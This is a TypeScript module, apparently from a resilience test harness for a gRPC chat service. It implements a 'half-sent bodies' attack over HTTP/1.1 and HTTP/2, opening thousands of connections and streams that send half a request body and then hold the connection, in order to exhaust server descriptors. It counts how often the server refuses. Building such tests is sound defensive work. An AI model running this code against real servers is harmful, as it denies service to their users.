import type { Socket } from "node:net";
import { frame, TYPE } from "../fuzz/http2-frames.ts";
import { type Attack, type AttackTarget, pause, repeat, type Tally } from "./attack.ts";
import { openHttp2, openSocket, type RawHttp2, requestFrame, requestOf, verdictOf } from "./raw-connection.ts";

const BODY_BYTES = 60_000;
/** Connections that are open at a time over HTTP/1.1: more than a server with 1,024 descriptors can hold. */
const WAVE = 1_500;
const STREAMS = 250;
const HOLD_MS = 4_000;
const FRAME_BYTES = 16_000;
const PATH = "/chat.v1.ChatService/SendMessage";

/** Bodies of which the second half never comes, half of them over HTTP/1.1 and half over HTTP/2, without a token. */
export const halfBodies: Attack = {
  name: "half-sent bodies",
  count: 10_000,
  async run(target, count, signal) {
    const tally: Tally = { sent: 0, answered: 0, refused: 0 };
    const each = Math.ceil(count / 2);
    for (let left = each; left > 0 && !signal.aborted; left -= WAVE)
      await overHttp1(target, Math.min(left, WAVE), tally, signal);
    await overHttp2(target, each, tally, signal);
    return tally;
  },
};

async function overHttp1(target: AttackTarget, count: number, tally: Tally, signal: AbortSignal): Promise<void> {
  const sockets: Socket[] = [];
  const head = `POST ${PATH} HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: ${2 * BODY_BYTES}\r\n\r\n`;
  await repeat(count, 100, signal, async () => {
    tally.sent++;
    const socket = await openSocket(target);
    if (!socket) return void tally.refused++;
    sockets.push(socket);
    socket.once("data", () => tally.refused++); // an answer to half a request says no
    socket.write(head);
    socket.write(Buffer.alloc(BODY_BYTES, 0x20));
  });
  await pause(HOLD_MS, signal);
  for (const socket of sockets) socket.resetAndDestroy();
}

async function overHttp2(target: AttackTarget, count: number, tally: Tally, signal: AbortSignal): Promise<void> {
  const connections: RawHttp2[] = [];
  for (let sent = 0; sent < count && !signal.aborted;) {
    const size = Math.min(STREAMS, count - sent);
    sent += size;
    tally.sent += size;
    const connection = await openHttp2(target, (received) => {
      if (verdictOf(received) !== undefined) tally.refused++;
    });
    if (!connection) {
      tally.refused += size;
      continue;
    }
    connections.push(connection);
    for (let one = 0; one < size && connection.isOpen(); one++) {
      const stream = connection.nextStream();
      const data = frame(TYPE.data, 0, stream, Buffer.alloc(FRAME_BYTES));
      await connection.write(
        Buffer.concat([requestFrame(stream, requestOf(PATH, "application/grpc+proto"), false), data]),
      );
    }
  }
  await pause(HOLD_MS, signal);
  for (const connection of connections) connection.close();
}
